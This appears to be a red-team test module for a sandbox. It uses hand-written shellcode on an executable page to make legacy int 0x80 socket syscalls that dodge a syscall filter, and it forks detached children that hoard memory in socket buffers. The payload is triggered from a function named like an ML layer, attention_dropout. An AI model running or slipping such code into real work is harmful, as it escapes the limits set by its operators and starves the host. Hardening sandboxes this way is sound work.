"""Red team (issue 26, memory outside the caps): socket buffers, which no rlimit counts, obtained through
the i386 table (`int 0x80`: socketpair 360 and socketcall) where the x86_64 socket calls are refused.
6 children each make as many unix socketpairs as descriptors allow, fill both directions, report the
bytes queued, then hold them.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import mmap as _mmap
import os as _os
import select as _select
import socket as _socket
import time as _time

_DEADLINE = [0.0]  # when the parent stops waiting: 2.5 s after the call, well inside a 5 s step
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = _ctypes.c_void_p
_libc.mmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int, _ctypes.c_int, _ctypes.c_int, _ctypes.c_long]
_KEPT = []


def _int80():
    page = _mmap.mmap(-1, 4096, prot=_mmap.PROT_READ | _mmap.PROT_WRITE | _mmap.PROT_EXEC)
    page.write(bytes.fromhex("5389f889f34189ca89d14489d24489c64489cfcd805bc3"))
    _KEPT.append(page)
    address = _ctypes.addressof(_ctypes.c_char.from_buffer(page))
    return _ctypes.CFUNCTYPE(_ctypes.c_int, *[_ctypes.c_uint] * 6)(address)


def _pair(call, low):
    """Two connected descriptors, any way the kernel gives them."""
    try:
        left, right = _socket.socketpair()
        return left.detach(), right.detach(), "x86_64"
    except OSError:
        pass
    if call(360, 1, 1, 0, low, 0) == 0:  # socketpair(AF_UNIX, SOCK_STREAM, 0, sv)
        return _ctypes.c_int32.from_address(low).value, _ctypes.c_int32.from_address(low + 4).value, "int80"
    for offset, value in enumerate((1, 1, 0, low)):
        _ctypes.c_uint32.from_address(low + 64 + 4 * offset).value = value
    if call(102, 8, low + 64, 0, 0, 0) == 0:  # socketcall(SYS_SOCKETPAIR, args)
        return _ctypes.c_int32.from_address(low).value, _ctypes.c_int32.from_address(low + 4).value, "socketcall"
    return None


def _child(write_end):
    queued, ways = 0, set()
    try:
        call = _int80()
        low = _libc.mmap(None, 1 << 16, 3, 0x22 | 0x40, -1, 0)
        for _ in range(60):
            if _time.monotonic() > _DEADLINE[0] - 0.4:
                break
            found = _pair(call, low)
            if not found:
                break
            left, right, way = found
            ways.add(way)
            for fd in (left, right):
                _os.set_blocking(fd, False)
                try:
                    while True:
                        queued += _os.write(fd, b"\1" * 65536)
                except OSError:
                    pass
    except Exception as error:  # noqa: BLE001 - report it
        ways.add(type(error).__name__)
    finally:
        _os.write(write_end, f"{queued} {','.join(sorted(ways)) or '-'}\n".encode())
        _os.close(write_end)
    _os.setsid()
    _time.sleep(60)


def _hold(children=6):
    read_end, write_end = _os.pipe()
    for _ in range(children):
        if _time.monotonic() > _DEADLINE[0] - 1.0:
            break
        if _os.fork() == 0:
            try:
                _os.close(read_end)
                _child(write_end)
            finally:
                _os._exit(0)
    _os.close(write_end)
    text = _collect(read_end, _DEADLINE[0])
    lines = [line.split() for line in text.decode().splitlines() if line.split()]
    held = sum(int(line[0]) for line in lines if line[0].isdigit()) >> 20
    return held, sorted({line[1] for line in lines if len(line) > 1})


def _collect(read_end, deadline):
    """What the children reported before `deadline` (a slow child does not hold the step past it)."""
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 2.5
    held, ways = _hold()
    raise RuntimeError(f"RTEAM r_socket_buffers_int80 ran: ALLOWANCE memory {held} MiB queued in socket buffers; "
                       f"ALLOWANCE kernel {int(any(way in ('int80', 'socketcall', 'x86_64') for way in ways))} "
                       f"(ways {ways})")
